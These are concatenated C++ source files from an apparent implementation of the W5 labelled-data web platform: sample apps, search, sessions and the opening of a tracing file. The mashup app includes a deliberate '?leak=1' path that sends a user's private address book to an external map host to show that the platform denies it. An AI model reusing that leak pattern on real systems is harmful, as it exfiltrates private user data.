  node_.provider().set_federated_search(
      [this](os::Pid pid, const std::string& viewer,
             const platform::FederatedQuery& query)
          -> util::Result<platform::FederatedPage> {
        auto result = search(pid, viewer, query);
        if (!result.ok()) return result.error();
        platform::FederatedPage out;
        out.body = render_body(result.value());
        out.secrecy = result.value().local_secrecy;
        out.partial = result.value().partial;
        return out;
      });
}

void Metasearch::reap_stragglers(bool join_all) {
  std::vector<Straggler> to_join;
  {
    const util::MutexLock lock(stragglers_mutex_);
    if (join_all) {
      to_join.swap(stragglers_);
    } else {
      for (auto it = stragglers_.begin(); it != stragglers_.end();) {
        bool done = false;
        {
          const util::MutexLock hop_lock(it->gather->mutex);
          done = it->gather->hops[it->hop].done;
        }
        if (done) {
          to_join.push_back(std::move(*it));
          it = stragglers_.erase(it);
        } else {
          ++it;
        }
      }
    }
  }
  for (Straggler& straggler : to_join)
    if (straggler.thread.joinable()) straggler.thread.join();
}

}  // namespace w5::fed
