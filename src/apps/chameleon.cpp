// Chameleon profile (paper §2): "Bob can also create a 'chameleon'
// profile display that adjusts its output based on the viewer (for
// instance, to hide his penchant for Sci-Fi novels from love interests)."
//
// Profile data: {"interests": [...], "hide": {"<interest>": ["viewer"...]}}.
// The app tailors the rendering per viewer; the perimeter still applies
// on top (non-friends see nothing at all under a friend-list policy).
#include <algorithm>

#include "apps/apps.h"
#include "core/app_context.h"

namespace w5::apps {

using platform::AppContext;
using platform::Module;
using net::HttpResponse;

namespace {

HttpResponse chameleon_handler(AppContext& ctx) {
  const std::string subject = ctx.query_param("user", ctx.viewer());
  auto profile = ctx.get_record("profiles", subject);
  if (!profile.ok()) return HttpResponse::text(404, "no profile\n");

  const util::Json& data = profile.value().data;
  const util::Json& hide = data.at("hide");

  util::Json visible_interests = util::Json::array();
  for (const auto& interest : data.at("interests").as_array()) {
    bool hidden = false;
    const util::Json& hide_list = hide.at(interest.as_string());
    for (const auto& banned : hide_list.as_array()) {
      if (banned.as_string() == ctx.viewer()) hidden = true;
    }
    // The owner always sees their full profile.
    if (ctx.viewer() == subject) hidden = false;
    if (!hidden) visible_interests.push_back(interest);
  }

  util::Json body;
  body["user"] = subject;
  body["name"] = data.at("name");
  body["interests"] = std::move(visible_interests);
  body["tailored_for"] = ctx.viewer();
  return HttpResponse::json(200, body.dump());
}

}  // namespace

platform::Module make_chameleon_app(const std::string& developer,
                                    const std::string& version) {
  Module module;
  module.developer = developer;
  module.name = "chameleon";
  module.version = version;
  module.manifest.description =
      "viewer-adaptive profile display (hides chosen interests per viewer)";
  module.manifest.open_source = true;
  module.manifest.source = "chameleon source v" + version;
  module.manifest.imports = {"socialco/social@1.0"};
  module.handler = chameleon_handler;
  return module;
}

}  // namespace w5::apps
