// Recommendation digest (paper §2): "Bob can deploy an application that
// sends him daily e-mail with the 5 most 'relevant' photos and blog
// entries posted by his friends."
//
// The app commingles many users' private data (exactly what W5 exists to
// make safe): it scans friends' photos and posts, scores them, and
// returns a digest. The response label carries every scanned friend's
// secrecy tag, so it exports only to viewers every friend's declassifier
// approves — for the usual friend-list policy, that means bob himself.
#include <algorithm>

#include "apps/apps.h"
#include "core/app_context.h"
#include "util/strings.h"

namespace w5::apps {

using platform::AppContext;
using platform::Module;
using net::HttpResponse;

namespace {

// Relevance: keyword overlap between the item and the viewer's interests,
// with a recency bonus — simple but honest scoring over real fields.
double score_item(const util::Json& item,
                  const std::vector<std::string>& interests) {
  double score = 0.0;
  const std::string text = item.at("title").as_string() + " " +
                           item.at("caption").as_string() + " " +
                           item.at("text").as_string();
  const std::string lower = util::to_lower(text);
  for (const auto& interest : interests) {
    if (lower.find(util::to_lower(interest)) != std::string::npos)
      score += 1.0;
  }
  score += item.at("rating").as_number(0) * 0.1;
  return score;
}

HttpResponse recommender_handler(AppContext& ctx) {
  if (ctx.viewer().empty()) return HttpResponse::text(401, "login\n");
  const auto limit = static_cast<std::size_t>(
      util::parse_i64(ctx.query_param("n", "5")).value_or(5));

  // The viewer's interest profile (their own data).
  std::vector<std::string> interests;
  if (auto profile = ctx.get_record("profiles", ctx.viewer()); profile.ok()) {
    for (const auto& entry : profile.value().data.at("interests").as_array())
      interests.push_back(entry.as_string());
  }

  // Friends list.
  auto friends_record = ctx.get_record("friends", ctx.viewer());
  if (!friends_record.ok())
    return HttpResponse::text(404, "no friend list\n");

  struct Scored {
    double score;
    std::string owner;
    std::string kind;
    util::Json item;
  };
  std::vector<Scored> scored;

  for (const auto& entry : friends_record.value().data.at("friends")
                               .as_array()) {
    const std::string friend_id = entry.as_string();
    for (const char* collection : {"photos", "posts"}) {
      auto items =
          ctx.query(collection, store::QueryOptions{.owner = friend_id});
      if (!items.ok()) continue;
      for (const auto& record : items.value()) {
        scored.push_back(Scored{score_item(record.data, interests),
                                friend_id, collection, record.data});
      }
    }
  }

  std::stable_sort(scored.begin(), scored.end(),
                   [](const Scored& a, const Scored& b) {
                     return a.score > b.score;
                   });
  if (scored.size() > limit) scored.resize(limit);

  util::Json digest = util::Json::array();
  for (const auto& item : scored) {
    util::Json out;
    out["score"] = item.score;
    out["from"] = item.owner;
    out["kind"] = item.kind;
    out["item"] = item.item;
    digest.push_back(std::move(out));
  }
  util::Json body;
  body["digest"] = std::move(digest);
  body["label"] = ctx.current_secrecy().to_string();  // show contamination
  return HttpResponse::json(200, body.dump());
}

}  // namespace

platform::Module make_recommender_app(const std::string& developer,
                                      const std::string& version) {
  Module module;
  module.developer = developer;
  module.name = "digest";
  module.version = version;
  module.manifest.description =
      "recommendation digest over friends' private photos and posts";
  module.manifest.open_source = true;
  module.manifest.source = "recommender source v" + version;
  module.manifest.imports = {"photoco/photos@1.0", "blogco/blog@1.0",
                             "socialco/social@1.0"};
  module.handler = recommender_handler;
  return module;
}

}  // namespace w5::apps
