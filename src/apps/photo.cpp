// Photo sharing + the independently developed crop module.
#include <algorithm>

#include "apps/apps.h"
#include "core/app_context.h"
#include "util/strings.h"

namespace w5::apps {

using platform::AppContext;
using platform::Module;
using net::HttpResponse;

namespace {

// Sub-route inside the app: the wildcard "rest" route param.
std::string action_of(const AppContext& ctx) {
  return ctx.param("rest", "list");
}

HttpResponse photo_handler(AppContext& ctx) {
  const std::string action = action_of(ctx);
  const std::string subject = ctx.query_param("user", ctx.viewer());

  if (action == "list" || action.empty()) {
    // Cursor pagination: page through the owner index without offset
    // re-scans; clients pass next_cursor back as ?cursor=.
    store::QueryOptions options;
    options.owner = subject;
    options.limit = static_cast<std::size_t>(
        std::clamp(util::parse_i64(ctx.query_param("limit", "20"))
                       .value_or(20),
                   std::int64_t{1}, std::int64_t{100}));
    options.cursor = ctx.query_param("cursor");
    auto photos = ctx.query_page("photos", options);
    if (!photos.ok()) {
      return HttpResponse::text(
          photos.error().code == "store.bad_cursor" ? 400 : 500,
          photos.error().code);
    }
    util::Json out = util::Json::array();
    for (const auto& record : photos.value().records) {
      util::Json item;
      item["id"] = record.id;
      item["title"] = record.data.at("title");
      item["caption"] = record.data.at("caption");
      out.push_back(std::move(item));
    }
    util::Json body;
    body["user"] = subject;
    body["photos"] = std::move(out);
    body["next_cursor"] = photos.value().next_cursor;
    return HttpResponse::json(200, body.dump());
  }

  if (action == "everywhere") {
    // The federated view: this user's photos from every provider they
    // consented to mirror with, one merged ranked stream. The app only
    // sees the seam — the consent gate, cutoff, and merge live in the
    // platform (DESIGN.md §18) — and the local leg contaminates this
    // request like any other read.
    if (ctx.viewer().empty()) return HttpResponse::text(401, "login\n");
    platform::FederatedQuery query;
    query.collection = "photos";
    query.terms = ctx.query_param("q");
    query.facets = util::split_nonempty(ctx.query_param("facets"), ',');
    query.cursor = ctx.query_param("cursor");
    query.limit = static_cast<std::size_t>(
        std::clamp(util::parse_i64(ctx.query_param("limit", "20"))
                       .value_or(20),
                   std::int64_t{1}, std::int64_t{100}));
    auto page = ctx.federated_search(std::move(query));
    if (!page.ok()) {
      if (page.error().code == "fed.not_configured")
        return HttpResponse::text(503, page.error().code);
      return HttpResponse::text(
          page.error().code == "fed.bad_cursor" ? 400 : 403,
          page.error().code);
    }
    util::Json body = page.value().body;
    body["user"] = ctx.viewer();
    return HttpResponse::json(200, body.dump());
  }

  if (action == "view") {
    auto record = ctx.get_record("photos", ctx.query_param("id"));
    if (!record.ok()) return HttpResponse::text(404, "no such photo\n");
    return HttpResponse::json(200, record.value().data.dump());
  }

  if (action == "upload" && ctx.request().method == net::Method::kPost) {
    if (ctx.viewer().empty()) return HttpResponse::text(401, "login\n");
    auto data = util::Json::parse(ctx.request().body);
    if (!data.ok()) return HttpResponse::text(400, "body must be JSON\n");
    auto record = ctx.make_user_record(ctx.viewer(), "photos",
                                       ctx.query_param("id"),
                                       std::move(data).value());
    if (!record.ok()) return HttpResponse::text(400, record.error().code);
    auto written = ctx.put_record(std::move(record).value());
    if (!written.ok()) return HttpResponse::text(403, written.error().code);
    return HttpResponse::text(201, "uploaded\n");
  }

  if (action == "caption" && ctx.request().method == net::Method::kPost) {
    auto record = ctx.get_record("photos", ctx.query_param("id"));
    if (!record.ok()) return HttpResponse::text(404, "no such photo\n");
    record.value().data["caption"] = ctx.request().body;
    auto written = ctx.put_record(record.value());
    if (!written.ok()) return HttpResponse::text(403, written.error().code);
    return HttpResponse::text(200, "captioned\n");
  }

  return HttpResponse::text(404, "unknown photo action\n");
}

// "Cropping" a JSON photo: trims the pixels array to the given rectangle.
// The interesting part is not the arithmetic — it is that a *different
// developer's* module edits the same record, gated by the same wp tag.
HttpResponse crop_handler(AppContext& ctx) {
  auto record = ctx.get_record("photos", ctx.query_param("id"));
  if (!record.ok()) return HttpResponse::text(404, "no such photo\n");

  const auto w = util::parse_i64(ctx.query_param("w", "0")).value_or(0);
  const auto h = util::parse_i64(ctx.query_param("h", "0")).value_or(0);
  if (w <= 0 || h <= 0) return HttpResponse::text(400, "w and h required\n");

  const util::Json& pixels = record.value().data.at("pixels");
  util::Json cropped = util::Json::array();
  std::int64_t row = 0;
  for (const auto& line : pixels.as_array()) {
    if (row++ >= h) break;
    cropped.push_back(line.as_string().substr(
        0, static_cast<std::size_t>(w)));
  }
  record.value().data["pixels"] = std::move(cropped);
  record.value().data["cropped"] = true;

  auto written = ctx.put_record(record.value());
  if (!written.ok()) return HttpResponse::text(403, written.error().code);
  return HttpResponse::json(200, record.value().data.dump());
}

}  // namespace

platform::Module make_photo_app(const std::string& developer,
                                const std::string& version) {
  Module module;
  module.developer = developer;
  module.name = "photos";
  module.version = version;
  module.manifest.description =
      "photo sharing: list/view/upload/caption over labeled records";
  module.manifest.open_source = true;
  module.manifest.source = "photo_app source v" + version;
  module.handler = photo_handler;
  return module;
}

platform::Module make_crop_app(const std::string& developer,
                               const std::string& version) {
  Module module;
  module.developer = developer;
  module.name = "crop";
  module.version = version;
  module.manifest.description = "photo cropping module";
  module.manifest.open_source = true;
  module.manifest.source = "crop source v" + version;
  module.manifest.imports = {"photoco/photos@1.0"};
  module.handler = crop_handler;
  return module;
}

}  // namespace w5::apps
