// Social network: profiles and friend lists — the paper's §3.1 scenario
// ("a social networking application should be able to show Bob's profile
// to Alice but not to Charlie"). The app itself contains zero
// access-control code: the friend-list *declassifier* decides who sees
// what.
#include "apps/apps.h"
#include "core/app_context.h"

namespace w5::apps {

using platform::AppContext;
using platform::Module;
using net::HttpResponse;

namespace {

HttpResponse social_handler(AppContext& ctx) {
  const std::string action = ctx.param("rest", "profile");

  if (action == "profile" || action.empty()) {
    const std::string subject = ctx.query_param("user", ctx.viewer());
    auto profile = ctx.get_record("profiles", subject);
    if (!profile.ok()) return HttpResponse::text(404, "no profile\n");
    return HttpResponse::json(200, profile.value().data.dump());
  }

  if (action == "update" && ctx.request().method == net::Method::kPost) {
    if (ctx.viewer().empty()) return HttpResponse::text(401, "login\n");
    auto body = util::Json::parse(ctx.request().body);
    if (!body.ok()) return HttpResponse::text(400, "body must be JSON\n");
    auto record = ctx.make_user_record(ctx.viewer(), "profiles",
                                       ctx.viewer(), std::move(body).value());
    if (!record.ok()) return HttpResponse::text(400, record.error().code);
    auto written = ctx.put_record(std::move(record).value());
    if (!written.ok()) return HttpResponse::text(403, written.error().code);
    return HttpResponse::text(200, "profile saved\n");
  }

  if (action == "befriend" && ctx.request().method == net::Method::kPost) {
    if (ctx.viewer().empty()) return HttpResponse::text(401, "login\n");
    const std::string friend_id = ctx.query_param("friend");
    if (friend_id.empty()) return HttpResponse::text(400, "friend required\n");
    // Friend list lives at friends/<user>, data {"friends": [...]}.
    util::Json list;
    auto existing = ctx.get_record("friends", ctx.viewer());
    if (existing.ok()) {
      list = existing.value().data;
    } else {
      list["friends"] = util::Json::array();
    }
    for (const auto& entry : list.at("friends").as_array()) {
      if (entry.as_string() == friend_id)
        return HttpResponse::text(200, "already friends\n");
    }
    list["friends"].push_back(friend_id);
    auto record = ctx.make_user_record(ctx.viewer(), "friends", ctx.viewer(),
                                       std::move(list));
    if (!record.ok()) return HttpResponse::text(400, record.error().code);
    auto written = ctx.put_record(std::move(record).value());
    if (!written.ok()) return HttpResponse::text(403, written.error().code);
    return HttpResponse::text(200, "friend added\n");
  }

  if (action == "friends") {
    const std::string subject = ctx.query_param("user", ctx.viewer());
    auto record = ctx.get_record("friends", subject);
    if (!record.ok()) return HttpResponse::text(404, "no friend list\n");
    return HttpResponse::json(200, record.value().data.dump());
  }

  return HttpResponse::text(404, "unknown social action\n");
}

}  // namespace

platform::Module make_social_app(const std::string& developer,
                                 const std::string& version) {
  Module module;
  module.developer = developer;
  module.name = "social";
  module.version = version;
  module.manifest.description =
      "profiles and friend lists; sharing governed by declassifiers";
  module.manifest.open_source = true;
  module.manifest.source = "social source v" + version;
  module.handler = social_handler;
  return module;
}

}  // namespace w5::apps
