// Online dating with user-supplied compatibility metrics (paper §2: "For
// an online-dating application, Bob can upload a custom compatibility
// metric.") The metric is data, not code: a JSON weight vector the app
// evaluates against candidate profiles — users customize server-side
// behavior without the platform running arbitrary uploads.
#include <algorithm>

#include "apps/apps.h"
#include "core/app_context.h"

namespace w5::apps {

using platform::AppContext;
using platform::Module;
using net::HttpResponse;

namespace {

double compatibility(const util::Json& metric, const util::Json& mine,
                     const util::Json& theirs) {
  double score = 0.0;
  // metric: {"shared_interest": w1, "same_city": w2, "age_gap_penalty": w3}
  const double shared_w = metric.at("shared_interest").as_number(1.0);
  const double city_w = metric.at("same_city").as_number(1.0);
  const double age_w = metric.at("age_gap_penalty").as_number(0.1);

  for (const auto& a : mine.at("interests").as_array()) {
    for (const auto& b : theirs.at("interests").as_array()) {
      if (a.as_string() == b.as_string()) score += shared_w;
    }
  }
  if (!mine.at("city").as_string().empty() &&
      mine.at("city").as_string() == theirs.at("city").as_string()) {
    score += city_w;
  }
  const double gap =
      std::abs(mine.at("age").as_number() - theirs.at("age").as_number());
  score -= age_w * gap;
  return score;
}

HttpResponse dating_handler(AppContext& ctx) {
  const std::string action = ctx.param("rest", "matches");
  if (ctx.viewer().empty()) return HttpResponse::text(401, "login\n");

  if (action == "metric" && ctx.request().method == net::Method::kPost) {
    auto metric = util::Json::parse(ctx.request().body);
    if (!metric.ok()) return HttpResponse::text(400, "metric must be JSON\n");
    auto record = ctx.make_user_record(ctx.viewer(), "dating-metrics",
                                       ctx.viewer(),
                                       std::move(metric).value());
    if (!record.ok()) return HttpResponse::text(400, record.error().code);
    auto written = ctx.put_record(std::move(record).value());
    if (!written.ok()) return HttpResponse::text(403, written.error().code);
    return HttpResponse::text(200, "metric saved\n");
  }

  if (action == "nearby") {
    // Equality lookup the planner serves from the registered
    // (profiles, city) index — a point query, not a collection scan.
    std::string city = ctx.query_param("city");
    if (city.empty()) {
      auto mine = ctx.get_record("profiles", ctx.viewer());
      if (!mine.ok())
        return HttpResponse::text(404, "create a profile first\n");
      city = mine.value().data.at("city").as_string();
    }
    store::QueryOptions options;
    options.eq_field = "city";
    options.eq_value = city;
    auto neighbors = ctx.query("profiles", options);
    if (!neighbors.ok())
      return HttpResponse::text(500, neighbors.error().code);
    util::Json out = util::Json::array();
    for (const auto& profile : neighbors.value()) {
      if (profile.owner == ctx.viewer()) continue;
      out.push_back(util::Json(profile.owner));
    }
    util::Json body;
    body["city"] = city;
    body["nearby"] = std::move(out);
    return HttpResponse::json(200, body.dump());
  }

  if (action == "matches" || action.empty()) {
    auto mine = ctx.get_record("profiles", ctx.viewer());
    if (!mine.ok()) return HttpResponse::text(404, "create a profile first\n");

    // Custom metric if uploaded, built-in default otherwise.
    util::Json metric;
    metric["shared_interest"] = 1.0;
    metric["same_city"] = 1.0;
    metric["age_gap_penalty"] = 0.1;
    if (auto custom = ctx.get_record("dating-metrics", ctx.viewer());
        custom.ok()) {
      metric = custom.value().data;
    }

    auto candidates = ctx.query("profiles", {});
    if (!candidates.ok())
      return HttpResponse::text(500, candidates.error().code);
    struct Match {
      double score;
      std::string user;
    };
    std::vector<Match> matches;
    for (const auto& candidate : candidates.value()) {
      if (candidate.owner == ctx.viewer()) continue;
      matches.push_back(Match{
          compatibility(metric, mine.value().data, candidate.data),
          candidate.owner});
    }
    std::stable_sort(matches.begin(), matches.end(),
                     [](const Match& a, const Match& b) {
                       return a.score > b.score;
                     });
    util::Json out = util::Json::array();
    for (const auto& match : matches) {
      util::Json item;
      item["user"] = match.user;
      item["score"] = match.score;
      out.push_back(std::move(item));
    }
    util::Json body;
    body["matches"] = std::move(out);
    return HttpResponse::json(200, body.dump());
  }

  return HttpResponse::text(404, "unknown dating action\n");
}

}  // namespace

platform::Module make_dating_app(const std::string& developer,
                                 const std::string& version) {
  Module module;
  module.developer = developer;
  module.name = "dating";
  module.version = version;
  module.manifest.description =
      "matchmaking with user-uploaded compatibility metrics";
  module.manifest.open_source = false;  // the one closed-source example
  module.handler = dating_handler;
  return module;
}

void register_standard_apps(platform::Provider& provider) {
  (void)provider.modules().add(make_photo_app());
  (void)provider.modules().add(make_crop_app());
  (void)provider.modules().add(make_blog_app());
  (void)provider.modules().add(make_social_app());
  (void)provider.modules().add(make_recommender_app());
  (void)provider.modules().add(make_chameleon_app());
  (void)provider.modules().add(make_mashup_app());
  (void)provider.modules().add(make_dating_app());
}

}  // namespace w5::apps
