// Blogging application: posts are labeled user records; the blog page is
// rendered server-side as HTML (and passes through the gateway's
// JavaScript filter like everything else).
#include "core/app_context.h"
#include "apps/apps.h"

namespace w5::apps {

using platform::AppContext;
using platform::Module;
using net::HttpResponse;

namespace {

std::string escape_html(const std::string& text) {
  std::string out;
  out.reserve(text.size());
  for (char c : text) {
    switch (c) {
      case '<':
        out += "&lt;";
        break;
      case '>':
        out += "&gt;";
        break;
      case '&':
        out += "&amp;";
        break;
      case '"':
        out += "&quot;";
        break;
      default:
        out.push_back(c);
    }
  }
  return out;
}

HttpResponse blog_handler(AppContext& ctx) {
  const std::string action = ctx.param("rest", "page");
  const std::string subject = ctx.query_param("user", ctx.viewer());

  if (action == "post" && ctx.request().method == net::Method::kPost) {
    if (ctx.viewer().empty()) return HttpResponse::text(401, "login\n");
    auto body = util::Json::parse(ctx.request().body);
    if (!body.ok()) return HttpResponse::text(400, "body must be JSON\n");
    auto record = ctx.make_user_record(ctx.viewer(), "posts",
                                       ctx.query_param("id"),
                                       std::move(body).value());
    if (!record.ok()) return HttpResponse::text(400, record.error().code);
    auto written = ctx.put_record(std::move(record).value());
    if (!written.ok()) return HttpResponse::text(403, written.error().code);
    return HttpResponse::text(201, "posted\n");
  }

  if (action == "page" || action.empty()) {
    // Paged rendering over the owner index; ?cursor= resumes where the
    // previous page stopped (no offset re-scan on deep blogs).
    store::QueryOptions options;
    options.owner = subject;
    options.limit = 25;
    options.cursor = ctx.query_param("cursor");
    auto posts = ctx.query_page("posts", options);
    if (!posts.ok()) {
      return HttpResponse::text(
          posts.error().code == "store.bad_cursor" ? 400 : 500,
          posts.error().code);
    }
    std::string html = "<html><body><h1>" + escape_html(subject) +
                       "'s blog</h1>\n";
    for (const auto& record : posts.value().records) {
      html += "<article><h2>" +
              escape_html(record.data.at("title").as_string()) + "</h2><p>" +
              escape_html(record.data.at("text").as_string()) +
              "</p></article>\n";
    }
    if (!posts.value().next_cursor.empty()) {
      html += "<a href=\"?cursor=" + escape_html(posts.value().next_cursor) +
              "\">older posts</a>\n";
    }
    html += "</body></html>";
    return HttpResponse::html(200, html);
  }

  if (action == "delete" && ctx.request().method == net::Method::kPost) {
    auto removed = ctx.remove_record("posts", ctx.query_param("id"));
    if (!removed.ok()) return HttpResponse::text(403, removed.error().code);
    return HttpResponse::text(200, "deleted\n");
  }

  return HttpResponse::text(404, "unknown blog action\n");
}

}  // namespace

platform::Module make_blog_app(const std::string& developer,
                               const std::string& version) {
  Module module;
  module.developer = developer;
  module.name = "blog";
  module.version = version;
  module.manifest.description = "blogging with server-rendered HTML pages";
  module.manifest.open_source = true;
  module.manifest.source = "blog source v" + version;
  module.handler = blog_handler;
  return module;
}

}  // namespace w5::apps
