// Developer-contributed applications for the W5 platform.
//
// These are the paper's running examples, built as real modules against
// the AppContext API: photo sharing and blogging (Fig. 1/2), a social
// network profile (§3.1's Alice/Bob/Charlie), the recommendation digest,
// custom compatibility metric, and "chameleon" profile (§2 Examples), and
// the private address-book + map mashup (§4). None of this code is
// trusted; every security property comes from the platform.
#pragma once

#include "core/module_registry.h"
#include "core/provider.h"

namespace w5::apps {

// Photo sharing: upload (needs write grant), list, view, caption.
platform::Module make_photo_app(const std::string& developer = "photoco",
                                const std::string& version = "1.0");

// A *separately developed* crop module (paper §1: pick "developer A's
// photo cropping module"); operates on photos in place.
platform::Module make_crop_app(const std::string& developer = "devA",
                               const std::string& version = "1.0");

// Blogging: write posts, render a blog page as HTML.
platform::Module make_blog_app(const std::string& developer = "blogco",
                               const std::string& version = "1.0");

// Social network: profile + friend list management.
platform::Module make_social_app(const std::string& developer = "socialco",
                                 const std::string& version = "1.0");

// Recommendation digest (§2): "the 5 most relevant photos and blog
// entries posted by his friends", computed over commingled private data.
platform::Module make_recommender_app(
    const std::string& developer = "recsys", const std::string& version = "1.0");

// Chameleon profile (§2): output adapts to the viewer — hides interests
// tagged "hide-from" a group the viewer belongs to.
platform::Module make_chameleon_app(
    const std::string& developer = "chameleonco",
    const std::string& version = "1.0");

// Address-book + map mashup (§4): fetches map tiles from the external
// map service FIRST (while clean), then reads the private address book
// and renders annotations server-side. The addresses can never reach the
// map developer's servers.
platform::Module make_mashup_app(const std::string& developer = "mashupco",
                                 const std::string& version = "1.0");

// Online-dating compatibility metric (§2): Bob uploads a custom metric;
// here the metric is a JSON weight vector stored as user data.
platform::Module make_dating_app(const std::string& developer = "datingco",
                                 const std::string& version = "1.0");

// Registers every app above on the provider (used by examples/benches).
void register_standard_apps(platform::Provider& provider);

}  // namespace w5::apps
