// Server-side mashup (paper §4): private address book + external map.
//
// "The same application on W5 could generate the annotated map on the
// server side, disallowing export of the address data to the map
// developers." The handler fetches map tiles from the (simulated) map
// service while its label is still clean, then reads the private address
// book — after which the DIFC label makes any further external call
// impossible. A ?leak=1 mode deliberately tries the unsafe order and
// reports the denial, which bench_perimeter and the example script use.
#include "apps/apps.h"
#include "core/app_context.h"

namespace w5::apps {

using platform::AppContext;
using platform::Module;
using net::HttpResponse;

namespace {

HttpResponse mashup_handler(AppContext& ctx) {
  if (ctx.viewer().empty()) return HttpResponse::text(401, "login\n");
  const bool naughty = ctx.query_param("leak") == "1";

  std::string tiles;
  if (!naughty) {
    // Correct order: external fetch first, while the label is clean.
    auto fetched = ctx.fetch_external("map.example/tiles?area=home");
    if (!fetched.ok()) return HttpResponse::text(502, fetched.error().code);
    tiles = std::move(fetched).value();
  }

  auto book = ctx.get_record("addressbook", ctx.viewer());
  if (!book.ok()) return HttpResponse::text(404, "no address book\n");

  if (naughty) {
    // Wrong order: contaminated now, so this MUST fail. Report what the
    // platform said (the error code is public; the addresses are not).
    auto leak = ctx.fetch_external("map.example/tiles?addresses=" +
                                   book.value().data.dump());
    util::Json body;
    body["leak_attempted"] = true;
    body["leak_allowed"] = leak.ok();
    body["error"] = leak.ok() ? util::Json(nullptr)
                              : util::Json(leak.error().code);
    return HttpResponse::json(200, body.dump());
  }

  // Server-side annotation: join tiles + addresses locally.
  util::Json annotations = util::Json::array();
  for (const auto& [name, address] : book.value().data.as_object()) {
    util::Json pin;
    pin["name"] = name;
    pin["address"] = address;
    pin["tile"] = "tile-for-" + address.as_string();
    annotations.push_back(std::move(pin));
  }
  util::Json body;
  body["map"] = tiles;
  body["pins"] = std::move(annotations);
  return HttpResponse::json(200, body.dump());
}

}  // namespace

platform::Module make_mashup_app(const std::string& developer,
                                 const std::string& version) {
  Module module;
  module.developer = developer;
  module.name = "addressmap";
  module.version = version;
  module.manifest.description =
      "address-book + map mashup rendered server-side; addresses never "
      "leave the perimeter";
  module.manifest.open_source = true;
  module.manifest.source = "mashup source v" + version;
  module.handler = mashup_handler;
  return module;
}

}  // namespace w5::apps
