#include "core/search_service.h"

namespace w5::platform {

SearchService::SearchService() = default;

void SearchService::reindex(const ModuleRegistry& modules) {
  // modules.all() snapshots before we lock: registry → search order,
  // never the reverse.
  const std::vector<const Module*> all = modules.all();
  const util::MutexLock lock(mutex_);
  graph_ = rank::DependencyGraph();
  search_ = std::make_unique<rank::CodeSearch>(graph_, editors_, popularity_);
  for (const Module* module : all) {
    graph_.add_node(module->id());
    for (const auto& import : module->manifest.imports)
      graph_.add_edge(module->id(), import, rank::DependencyKind::kImport);
    if (!module->forked_from.empty()) {
      graph_.add_edge(module->id(), module->forked_from,
                      rank::DependencyKind::kImport);
    }
    // Anti-social applications (§3.2): "writing out user data in
    // proprietary format ... W5 editorial controls can discourage it."
    // The catalog marks them so the search layer can downrank.
    search_->add_entry({module->id(), module->manifest.description,
                        module->manifest.data_format != "json"});
  }
  search_->refresh();
}

void SearchService::record_use(const std::string& module_id) {
  const util::MutexLock lock(mutex_);
  popularity_.record_use(module_id);
  // Adoption credits the editors who vouched for the module: their
  // endorsements weigh more as their picks prove out (§3.2).
  for (const auto& editor : editors_.endorsers_of(module_id))
    editors_.credit(editor, 0.01);
}

void SearchService::endorse(const std::string& editor,
                            const std::string& module_id, double confidence) {
  const util::MutexLock lock(mutex_);
  editors_.endorse(editor, module_id, confidence);
}

util::Json SearchService::search(const std::string& query,
                                 std::size_t limit) const {
  const util::MutexLock lock(mutex_);
  util::Json hits = util::Json::array();
  if (search_ != nullptr) {
    for (const auto& hit : search_->search(query, limit)) {
      util::Json entry;
      entry["module"] = hit.module_id;
      entry["score"] = hit.score;
      entry["pagerank"] = hit.pagerank_score;
      entry["editors"] = hit.editor_score;
      entry["popularity"] = hit.popularity_score;
      hits.push_back(std::move(entry));
    }
  }
  util::Json out;
  out["query"] = query;
  out["results"] = std::move(hits);
  return out;
}

util::Json SearchService::developer_reputations() const {
  const util::MutexLock lock(mutex_);
  util::Json out;
  out.mutable_object();
  if (search_ == nullptr) return out;
  std::vector<std::pair<std::string, double>> scores;
  for (const auto& hit : search_->search("", SIZE_MAX))
    scores.emplace_back(hit.module_id, hit.score);
  for (const auto& [developer, score] : rank::developer_reputation(scores))
    out[developer] = score;
  return out;
}

}  // namespace w5::platform
