#include "core/auth.h"

#include "util/bytes.h"
#include "util/sha256.h"

namespace w5::platform {

std::string SessionManager::create(const std::string& user_id) {
  const util::MutexLock lock(mutex_);
  // Housekeeping: drop tokens that expired without ever being revisited,
  // so abandoned sessions cannot accumulate.
  const util::Micros now = clock_.now();
  std::erase_if(sessions_,
                [now](const auto& entry) { return entry.second.expires <= now; });
  // 32 random bytes, hashed so the RNG stream is not directly exposed,
  // base64url for cookie safety.
  const std::string raw = rng_.next_bytes(32);
  const std::string token =
      util::base64url_encode(util::sha256_raw(raw + user_id));
  sessions_[token] = Session{user_id, clock_.now() + ttl_micros_};
  return token;
}

std::optional<std::string> SessionManager::validate(const std::string& token) {
  const util::MutexLock lock(mutex_);
  const auto it = sessions_.find(token);
  if (it == sessions_.end()) return std::nullopt;
  if (clock_.now() >= it->second.expires) {
    sessions_.erase(it);
    return std::nullopt;
  }
  it->second.expires = clock_.now() + ttl_micros_;  // sliding expiry
  return it->second.user_id;
}

void SessionManager::revoke(const std::string& token) {
  const util::MutexLock lock(mutex_);
  sessions_.erase(token);
}

void SessionManager::revoke_all(const std::string& user_id) {
  const util::MutexLock lock(mutex_);
  std::erase_if(sessions_, [&](const auto& entry) {
    return entry.second.user_id == user_id;
  });
}

void SessionManager::revoke_all_everything() {
  const util::MutexLock lock(mutex_);
  sessions_.clear();
}

std::size_t SessionManager::live_sessions() const {
  const util::MutexLock lock(mutex_);
  return sessions_.size();
}

}  // namespace w5::platform
