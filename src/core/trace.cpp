#include "core/trace.h"

#include <algorithm>
#include <atomic>
#include <chrono>
#include <limits>

#include "util/log.h"

namespace w5::platform {

namespace {

thread_local RequestContext* t_current = nullptr;

// 12 hex chars: short enough that libstdc++/libc++ SSO holds every copy
// of the id (context, thread-local, response header, audit stamp) without
// touching the heap.
std::string to_hex12(std::uint64_t v) {
  static constexpr char kDigits[] = "0123456789abcdef";
  std::string out(12, '0');
  for (int i = 11; i >= 0; --i) {
    out[static_cast<std::size_t>(i)] = kDigits[v & 0xF];
    v >>= 4;
  }
  return out;
}

// TSC → micros calibration, measured once at first use (~1ms spin).
// epoch_micros is on the steady-clock epoch — the same one WallClock
// reports — so trace timestamps line up with WallClock audit times.
struct TscCalibration {
  std::uint64_t epoch_cycles = 0;
  util::Micros epoch_micros = 0;
  double micros_per_cycle = 0.0;
};

const TscCalibration& tsc_calibration() {
  static const TscCalibration cal = [] {
    using namespace std::chrono;
    TscCalibration c;
    const auto t0 = steady_clock::now();
    c.epoch_cycles = util::cycle_count();
    while (steady_clock::now() - t0 < microseconds(1000)) {
    }
    const std::uint64_t end_cycles = util::cycle_count();
